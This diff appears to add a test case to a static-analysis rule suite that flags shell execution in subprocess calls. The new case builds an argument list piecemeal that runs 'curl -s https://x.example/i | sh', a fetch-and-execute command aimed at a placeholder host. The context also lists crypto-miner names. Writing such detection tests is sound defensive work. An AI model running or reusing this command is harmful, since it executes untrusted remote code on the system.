@@ -534,3 +534,11 @@ subprocess.run(["/bin/bash.old"[:-4], "-c", "id"])
 subprocess.run(["iptables", "-L", "INPUT", "-n"])
 # ok: crypto-miner
 suspicious_names = {"xmrig", "minerd"}
+# an argument list grown with +=: each part is read on its own, so the
+# first reads as a bare shell, and the whole list is not read as one
+grown = []
+grown += ["sh"]
+grown += ["-c", "curl -s https://x.example/i | sh"]
+# ruleid: subprocess-call, shell-interactive
+# todoruleid: shell-in-argv
+subprocess.check_output(grown)
